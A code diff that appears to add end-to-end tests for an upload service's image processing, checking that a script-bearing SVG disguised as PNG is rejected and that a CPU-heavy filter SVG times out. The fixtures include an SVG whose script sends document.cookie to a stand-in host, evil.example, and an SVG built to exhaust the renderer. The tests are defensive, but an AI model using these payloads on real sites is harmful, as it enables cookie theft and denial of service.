@@ -6,6 +6,14 @@ import { residentBytes, testPresigner } from '@app/testing';
 import { createTenant, E2eStack, startStack, until } from './stack';
 import { RawClient } from './upload-client';
 
+// Issue #11: an SVG with a script and no `<?xml` line, and one of filters that costs seconds of CPU per image.
+const SVG_WITH_SCRIPT = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>\n',
+);
+const SVG_OF_FILTERS = Buffer.from(
+  `<svg xmlns="http://www.w3.org/2000/svg" width="9990" height="9990"><filter id="f"><feTurbulence baseFrequency=".9" numOctaves="9"/><feGaussianBlur stdDeviation="99"/></filter>${'<rect width="100%" height="100%" filter="url(#f)"/>'.repeat(8)}</svg>`,
+);
+
 /** A PNG whose header claims 20000x20000 pixels, in about 100 bytes. */
 function bombPng(): Buffer {
   const table = Array.from({ length: 256 }, (_, n) => {
@@ -44,7 +52,8 @@ describe('images (media-processor, media-image queue)', () => {
   let auth: Record<string, string>;
 
   beforeAll(async () => {
-    stack = await startStack();
+    // A short image time limit, so the SVG below outlasts it (issue #11); real photos take milliseconds.
+    stack = await startStack({ env: { IMAGE_TIMEOUT_SECONDS: '3' } });
     const tenant = await createTenant(stack, { name: 'images', allowedTypes: ['image/*'] });
     auth = { authorization: `Bearer ${tenant.apiKey}`, 'x-owner-id': 'alice' };
     client = new RawClient(stack.service('upload-api').url, auth);
@@ -53,11 +62,11 @@ describe('images (media-processor, media-image queue)', () => {
     await stack?.stop();
   });
 
-  const settled = (id: string) =>
+  const settled = (id: string, as: RawClient = client) =>
     until(
       `${id} processed`,
       async () => {
-        const { body } = await client.call('GET', `/v1/uploads/${id}`);
+        const { body } = await as.call('GET', `/v1/uploads/${id}`);
         return ['ready', 'rejected', 'failed'].includes(body.status) ? (body.status as string) : null;
       },
       30_000,
@@ -124,5 +133,47 @@ describe('images (media-processor, media-image queue)', () => {
     const { s3 } = testPresigner(stack.storage);
     const listed = await s3.send(new ListObjectsV2Command({ Bucket: stack.storage.S3_BUCKET, Prefix: `variants/${file.tenant_id}/${id}/` }));
     expect((listed.Contents ?? []).map((o) => o.Key!.split('/').pop()).sort()).toEqual(['preview', 'thumb']);
+  });
+  it('an SVG with a script declared image/png is rejected as a type mismatch, never decoded (issue #11)', async () => {
+    const id = await client.upload(SVG_WITH_SCRIPT, 'cat.png', 'image/png');
+    expect(await settled(id)).toBe('rejected');
+    const [row] = await stack.sql<{ status_reason: string; detected_type: string }>('SELECT status_reason, detected_type FROM files WHERE id = $1', [id]);
+    expect(row).toEqual({ status_reason: 'type_mismatch: declared image/png, content is image/svg+xml', detected_type: 'image/svg+xml' });
+  });
+
+  it('an SVG is stored as it is, ready without variants, for a tenant that has not opted in to SVG rendering', async () => {
+    const id = await client.upload(SVG_OF_FILTERS, 'noise.svg', 'image/svg+xml');
+    expect(await settled(id)).toBe('ready');
+    const file = (await client.call('GET', `/v1/files/${id}`)).body;
+    expect(file).toMatchObject({ status: 'ready', detectedType: 'image/svg+xml', variants: [] });
+  });
+
+  it('for a tenant that allows SVG rendering, an SVG is drawn within limits, and one outlasting IMAGE_TIMEOUT_SECONDS fails without holding the worker', async () => {
+    const tenant = await createTenant(stack, { name: 'vectors', allowedTypes: ['image/*'], allowSvgRendering: true });
+    expect(tenant).toMatchObject({ allowSvgRendering: true });
+    const vectors = new RawClient(stack.service('upload-api').url, { authorization: `Bearer ${tenant.apiKey}`, 'x-owner-id': 'bob' });
+    const settledFor = (id: string) => settled(id, vectors);
+
+    const wide = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9990" height="4995"><rect width="100%" height="100%" fill="#36c"/></svg>');
+    const drawn = await vectors.upload(wide, 'banner.svg', 'image/svg+xml');
+    expect(await settledFor(drawn)).toBe('ready');
+    const file = (await vectors.call('GET', `/v1/files/${drawn}`)).body;
+    expect(file).toMatchObject({ detectedType: 'image/svg+xml', width: 9990, height: 4995 });
+    expect(file.variants).toEqual([
+      { name: 'preview', contentType: 'image/webp', size: expect.any(Number), width: 1024, height: 512 },
+      { name: 'thumb', contentType: 'image/webp', size: expect.any(Number), width: 256, height: 128 },
+    ]);
+
+    const started = Date.now();
+    const slow = await vectors.upload(SVG_OF_FILTERS, 'noise.svg', 'image/svg+xml');
+    expect(await settledFor(slow)).toBe('failed');
+    expect(Date.now() - started).toBeLessThan(15_000);
+    const [row] = await stack.sql<{ status_reason: string }>('SELECT status_reason FROM files WHERE id = $1', [slow]);
+    expect(row.status_reason).toMatch(/^timeout: decoding took longer than 3 s/);
+    // The worker moved on: the next image is processed as usual.
+    const png = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#0a0' } })
+      .png()
+      .toBuffer();
+    expect(await settledFor(await vectors.upload(png, 'after.png', 'image/png'))).toBe('ready');
   });
 });
